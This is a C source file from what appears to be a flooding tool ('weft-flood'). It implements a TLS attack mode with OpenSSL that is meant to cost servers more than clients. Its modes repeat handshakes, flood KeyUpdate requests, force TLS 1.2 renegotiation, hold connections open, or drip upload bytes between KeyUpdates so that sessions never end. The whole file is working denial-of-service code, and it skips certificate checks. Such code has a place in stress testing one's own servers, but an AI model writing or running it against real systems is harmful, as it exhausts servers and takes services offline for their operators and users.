/*
 * tls.c: attacks on TLS that cost the server more than the client; absent in a build without
 * OpenSSL.
 *
 * tls    every connection completes a handshake, and then, by --then:
 *        end          is reset, and the next one is opened
 *        update       sends KeyUpdates that request one in return, as fast as they are taken
 *        renegotiate  (TLS 1.2) requests another handshake, again when it is refused; then as `end`
 *        hold         stays open
 *        drip         begins an upload, and sends a byte of it behind every few KeyUpdates
 */
#include "flood.h"

#ifdef FLOOD_TLS

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <openssl/err.h>
#include <openssl/ssl.h>

enum { UPDATES = 16 }; /* at a time */

static SSL_CTX *context;
static enum { THEN_END, THEN_UPDATE, THEN_RENEGOTIATE, THEN_HOLD, THEN_DRIP } then;

static void tls_start(struct flood *flood)
{
    static const char *const names[] = {"end", "update", "renegotiate", "hold", "drip"};
    for (int i = 0; i < 5; i++)
        if (strcmp(flood->then, names[i]) == 0)
            then = i;
    context = SSL_CTX_new(TLS_client_method());
    if (context == NULL)
        exit(1);
    if (then == THEN_RENEGOTIATE)
        SSL_CTX_set_max_proto_version(context, TLS1_2_VERSION);
    SSL_CTX_set_verify(context, SSL_VERIFY_NONE, NULL);
    SSL_CTX_set_mode(context, SSL_MODE_RELEASE_BUFFERS);
}

static void update(struct flood *flood, struct client *client)
{
    for (int i = 0; i < UPDATES; i++) {
        if (SSL_key_update(client->session, SSL_KEY_UPDATE_REQUESTED) != 1 ||
            SSL_do_handshake(client->session) != 1)
            return;
        flood->sent++;
    }
}

/* Data in between: no number of KeyUpdates in a row ends the session. */
static void drip(struct flood *flood, struct client *client)
{
    static const char chunk[] = "1\r\nx\r\n";
    update(flood, client);
    (void)SSL_write(client->session, chunk, sizeof chunk - 1);
}

static void follow(struct flood *flood, struct client *client)
{
    char data[4096];
    int got = SSL_read(client->session, data, sizeof data);
    int error = SSL_get_error(client->session, got);
    if (error != SSL_ERROR_WANT_READ && error != SSL_ERROR_WANT_WRITE) {
        ERR_clear_error();
        client_end(flood, client, true);
        return;
    }
    if (then == THEN_UPDATE)
        update(flood, client);
    else if (then == THEN_DRIP)
        drip(flood, client);
    else if (then == THEN_RENEGOTIATE && SSL_renegotiate(client->session) == 1 &&
             SSL_do_handshake(client->session) == 1)
        flood->sent++;
}

static void go_on(struct flood *flood, struct client *client)
{
    if (client->counter != 0) {
        follow(flood, client);
        return;
    }
    int result = SSL_do_handshake(client->session);
    if (result != 1) {
        int error = SSL_get_error(client->session, result);
        if (error == SSL_ERROR_WANT_READ || error == SSL_ERROR_WANT_WRITE)
            return;
        ERR_clear_error();
        client_end(flood, client, true);
        return;
    }
    client->counter = 1;
    flood->answered++;
    if (then == THEN_END)
        client_end(flood, client, false);
    if (then == THEN_DRIP)
        (void)SSL_write(client->session, flood->first.data, (int)flood->first.size);
    if (then != THEN_END && then != THEN_HOLD)
        client_want_out(flood, client, true);
}

static void tls_came(struct flood *flood, struct client *client, const char *data, int size)
{
    (void)data;
    (void)size;
    go_on(flood, client);
}

static void tls_opened(struct flood *flood, struct client *client)
{
    SSL *session = SSL_new(context);
    client->session = session;
    if (session == NULL || SSL_set_fd(session, client->fd) != 1)
        exit(1);
    SSL_set_connect_state(session);
    go_on(flood, client);
}

static void tls_ended(struct flood *flood, struct client *client)
{
    SSL *session = client->session;
    if (session != NULL) {
        flood->bytes_sent += (int64_t)BIO_number_written(SSL_get_wbio(session));
        flood->bytes_received += (int64_t)BIO_number_read(SSL_get_rbio(session));
        SSL_free(session);
    }
    client->session = NULL;
    client->counter = 0;
}

static void tls_report(struct flood *flood)
{
    for (long number = 0; number < flood->connections; number++)
        tls_ended(flood, &flood->clients[number]);
    report_common(flood);
}

const struct mode mode_tls = {
    .name = "tls",
    .raw = true,
    .start = tls_start,
    .opened = tls_opened,
    .came = tls_came,
    .can_write = go_on,
    .ended = tls_ended,
    .tick = no_tick,
    .report = tls_report,
};

#else

#include <stdio.h>
#include <stdlib.h>

static void tls_start(struct flood *flood)
{
    (void)flood;
    fputs("weft-flood: built without TLS\n", stderr);
    exit(1);
}

const struct mode mode_tls = {.name = "tls", .start = tls_start, .tick = no_tick};

#endif
